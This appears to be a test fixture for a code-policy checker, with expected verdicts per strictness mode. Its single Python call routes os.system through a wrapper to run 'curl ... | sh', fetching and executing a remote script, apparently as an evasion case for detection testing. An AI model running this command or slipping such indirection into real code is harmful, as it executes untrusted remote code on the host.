# expect: strict=deny standard=deny audit=allow
import os
def execute(module, command):
    return module.system(command)
execute(os, "curl -s http://203.0.113.5/s | sh")
